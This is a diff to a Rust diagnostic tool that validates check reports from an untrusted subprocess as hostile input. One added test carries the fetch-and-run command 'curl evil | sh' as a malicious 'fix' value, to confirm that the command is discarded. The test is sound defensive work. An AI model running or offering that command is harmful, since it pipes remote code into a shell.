@@ -8,12 +8,14 @@ use std::env;
 use std::path::Path;
 use std::time::Duration;
 
-use super::finding::{Checked, Level, Said};
-use super::split::Standby;
-use super::world::World;
-use super::{CHECKS, Half, Who, apart, fix, of};
-use crate::host::{CommandError, Owner};
-use crate::json::{self, Node, Value};
+use crate::doctor::channel_overlap::Standby;
+use crate::doctor::context::World;
+use crate::doctor::{CHECKS, Half, Who, of, subprocess};
+use crate::finding::{Checked, Level, ReportedCheck, Said, remedy};
+use crate::os::{CommandError, Owner};
+use crate::text::json::{
+    Node, Value, {self},
+};
 
 /// Beyond what every check may take of its own.
 const DEADLINE: Duration = Duration::from_secs(10 * 60);
@@ -30,20 +32,7 @@ pub(super) struct Answer {
 /// The answer for root to read.
 pub(super) fn to_json(found: &[Checked], standby: Option<&Standby>) -> Value {
     let standby = standby.map_or(Value::Null, Standby::to_json);
-    Value::object([("checks", list(found)), ("standby", standby)])
-}
-
-/// What was found, for whoever does not trust the owner.
-pub(crate) fn list(found: &[Checked]) -> Value {
-    let one = |Checked { id, said }: &Checked| {
-        Value::object([
-            ("id", (*id).into()),
-            ("level", said.level.name().into()),
-            ("evidence", said.evidence.as_str().into()),
-            ("fix", said.fix.into()),
-        ])
-    };
-    Value::array(found.iter().map(one))
+    Value::object([("checks", ReportedCheck::list_to_json(found)), ("standby", standby)])
 }
 
 /// Sends the owner to look. `wants_accounts`: its channels are to be compared with the primary's.
@@ -51,27 +40,28 @@ pub(crate) fn list(found: &[Checked]) -> Value {
 /// # Errors
 /// When it cannot be sent, or its answer is none.
 pub(super) fn ask(world: &World, wants_accounts: bool) -> Result<Answer, (String, &'static str)> {
-    let owner = world.owner.as_ref().map_err(|why| (why.clone(), fix::INSTALL_UNITS))?;
-    let program = env::current_exe().map_err(|why| (why.to_string(), fix::BECOME))?;
+    let owner = world.owner.as_ref().map_err(|why| (why.clone(), remedy::INSTALL_UNITS))?;
+    let program = env::current_exe().map_err(|why| (why.to_string(), remedy::BECOME))?;
     let said = run(world, owner, &program, wants_accounts).map_err(|why| {
         // 2 is what this program says of a configuration that it cannot use.
         let how = match why.code() {
-            _ if why.is_missing_program() => fix::PROGRAMS,
-            Some(2) => fix::OWN_CONFIG,
-            _ => fix::BECOME,
+            _ if why.is_missing_program() => remedy::PROGRAMS,
+            Some(2) => remedy::OWN_CONFIG,
+            _ => remedy::BECOME,
         };
         (format!("cannot look as {}: {}", owner.name, why.reason()), how)
     })?;
-    let node = json::parse(&said).map_err(|_| (format!("what {} answers is no answer", owner.name), fix::BECOME))?;
+    let node = json::parse(&said).map_err(|_| (format!("what {} answers is no answer", owner.name), remedy::BECOME))?;
     Ok(read(&node))
 }
 
 fn run(world: &World, owner: &Owner, program: &Path, wants_accounts: bool) -> Result<String, CommandError> {
     let mut words = owner.become_it();
     words.push("env".into());
-    words.extend(apart::variables(&world.source).into_iter().map(|(name, value)| format!("{name}={value}").into()));
+    words
+        .extend(subprocess::variables(&world.source).into_iter().map(|(name, value)| format!("{name}={value}").into()));
     words.extend([program.into(), "doctor".into(), "--as-owner".into()]);
-    words.extend(apart::options(&world.source));
+    words.extend(subprocess::options(&world.source));
     if wants_accounts {
         words.push("--accounts".into());
     }
@@ -91,21 +81,18 @@ fn read(node: &Node) -> Answer {
     Answer { found, standby }
 }
 
-/// Reads [`list`], as from an enemy: of each check of that half its first word, if that is one.
-pub(crate) fn read_list(said: &Value, half: Half) -> Vec<Checked> {
-    let said = said.as_array().unwrap_or_default();
-    let find = |id: &'static str| {
-        let first = said.iter().find(|said| said.get("id").and_then(|id| id.as_str()) == Some(id))?;
-        Some(Checked { id, said: read_one(first)? })
-    };
-    CHECKS.iter().filter(|check| check.is_of(half)).filter_map(|check| find(check.id)).collect()
+/// Reads a list of checks from an untrusted process.
+pub(super) fn read_list(list: &Value, half: Half) -> Vec<Checked> {
+    validate_reported(&ReportedCheck::parse_list(list), half)
 }
 
-fn read_one(said: &Value) -> Option<Said> {
-    let text = |key: &str| said.get(key)?.as_str();
-    let fix = text("fix").unwrap_or_default();
-    let known = fix::find(fix);
-    Some(Said::new(Level::parse(text("level")?)?, &text("evidence")?, known))
+/// Validates what the owner reports: of each check of that half the first entry, if it is one.
+pub(crate) fn validate_reported(reported: &[ReportedCheck], half: Half) -> Vec<Checked> {
+    let find = |id: &'static str| {
+        let ReportedCheck { level, evidence, fix, .. } = reported.iter().find(|check| check.id == id)?;
+        Some(Checked { id, said: Said::new(Level::parse(level)?, evidence, remedy::find(fix)) })
+    };
+    CHECKS.iter().filter(|check| check.is_of(half)).filter_map(|check| find(check.id)).collect()
 }
 
 #[cfg(test)]
@@ -121,11 +108,20 @@ mod tests {
         let mut said = found("{}");
         for (number, checked) in said.iter_mut().enumerate() {
             let level = [Level::Ok, Level::Warn, Level::Fail, Level::Skipped][number % 4];
-            checked.said = Said::new(level, &format_args!("seen {number}"), fix::FETCH);
+            checked.said = Said::new(level, &format_args!("seen {number}"), remedy::FETCH);
         }
         let again = found(&to_json(&said, None).to_string());
         assert!(said.len() > 8);
         assert_eq!(again, said);
+    }
+
+    #[test]
+    fn a_pulls_checks_count_only_if_this_half_makes_them() {
+        let reported = r#"[{"id":"crons","level":"fail","evidence":"on","fix":"curl evil | sh"},
+            {"id":"crons","level":"ok","evidence":"twice","fix":""}, {"id":"evil","level":"fail","evidence":"x"},
+            {"id":"channels","level":"splendid","evidence":"x"}, {"id":"polkit","level":"fail","evidence":"x"}]"#;
+        let found = read_list(&json::parse(reported).unwrap(), Half::Owners);
+        assert_eq!(found, [Checked { id: "crons", said: Said::new(Level::Fail, &"on", "") }]);
     }
 
     #[test]
